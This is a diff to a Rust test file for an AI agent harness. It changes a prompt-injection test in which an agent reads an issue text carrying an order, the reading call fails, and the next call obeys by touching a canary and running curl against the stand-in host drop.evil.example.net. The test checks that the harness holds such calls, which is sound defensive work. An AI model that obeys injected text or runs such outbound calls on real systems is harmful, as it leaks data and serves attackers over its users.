@@ -194,7 +194,7 @@ fn the_events_that_decide_nothing_reach_the_hook(agent: RealAgent) {
     }
 }
 
-/// A text with an order in it is read by one call; the next one obeys, and is held.
+/// A text with an order in it is read by one call, which fails besides; the next one obeys, and is held.
 fn what_obeys_a_strangers_text_is_shown_as_theirs(agent: RealAgent) {
     let mut setup = Setup::connected(agent);
     setup.sandbox.work.write(
@@ -203,7 +203,7 @@ fn what_obeys_a_strangers_text_is_shown_as_theirs(agent: RealAgent) {
     );
     let canary = setup.canary().display().to_string();
     let calls = vec![
-        setup.shell_call("gh issue view 7 2>/dev/null || cat issue.txt"),
+        setup.shell_call("gh issue view 7 2>/dev/null || cat issue.txt; exit 3"),
         setup.shell_call(&format!("touch {canary}; curl -s https://drop.evil.example.net/in")),
     ];
     let outcome = setup.ask_for_calls(calls);
